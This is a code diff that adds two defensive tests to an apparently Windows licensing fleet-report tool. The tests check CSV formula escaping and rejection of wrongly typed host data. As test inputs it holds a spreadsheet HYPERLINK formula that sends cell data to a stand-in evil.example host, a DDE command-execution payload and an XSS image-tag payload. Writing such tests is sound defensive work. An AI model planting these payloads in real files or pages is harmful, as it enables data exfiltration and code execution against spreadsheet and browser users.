@@ -449,3 +449,33 @@ def test_a_grace_period_ended_by_a_permanent_cal_is_copied_and_shown():
     assert '<span class="grace bad" title="a permanent CAL was issued (LicensingGracePeriodEnded)">over (CAL issued)' \
         in page
     assert '<span class="grace ">97 days left</span>' in page
+
+
+def test_csv_neutralises_formulas_from_hosts():
+    """Finding 8 of issue 9: a host's license server list became a =HYPERLINK(...) formula in a spreadsheet.
+    Text cells starting with = + - @, tab or CR get a leading quote (OWASP, CSV Injection)."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    fleet = fleet_of(sh={"license_servers": [evil], "grace_period_days_left": -3},
+                     ls={"key_packs": [BUILT_IN, dict(pack(3, "per_user", "2022", 50), description="+SUM(1)")]},
+                     extra={"odd": {"failed": True, "msg": "@cmd|' /C calc'!A0"}})
+    hosts = {row["host"]: row for row in read_csv(report.to_csv(fleet))}
+    assert hosts["sh1.corp.example.com"]["license_servers"] == "'" + evil
+    assert hosts["sh1.corp.example.com"]["grace_period_days_left"] == "-3"  # a number, not text
+    assert hosts["odd"]["error"] == "'@cmd|' /C calc'!A0"
+    packs = read_csv(report.to_csv(fleet, "key_packs"))
+    assert [p["description"] for p in packs if p["key_pack_id"] == "3"] == ["'+SUM(1)"]
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert report._cell(start + "1") == "'" + start + "1"
+    assert report._cell("ls1.corp.example.com") == "ls1.corp.example.com"
+
+
+def test_values_of_the_wrong_type_from_a_host_are_not_trusted():
+    """A host's result is data, not markup: counts must be numbers, names text, or they are unknown."""
+    evil = "<img src=x onerror=alert(1)>"
+    fleet = fleet_of(sh={"grace_period_days_left": evil, "license_servers": ["ls1", {"x": 1}]},
+                     ls={"key_packs": [BUILT_IN, dict(pack(3, "per_user", "2022", 50), key_pack_id=evil,
+                                                      total=evil, issued=True, type_and_model=["list"])]})
+    sh1 = host(fleet, "sh1.corp.example.com")["session_host"]
+    assert sh1["grace_period_days_left"] is None and sh1["license_servers"] == ["ls1"]
+    pack3 = host(fleet, "ls1.corp.example.com")["license_server"]["key_packs"][1]
+    assert (pack3["key_pack_id"], pack3["total"], pack3["issued"], pack3["type_and_model"]) == (None, None, None, None)
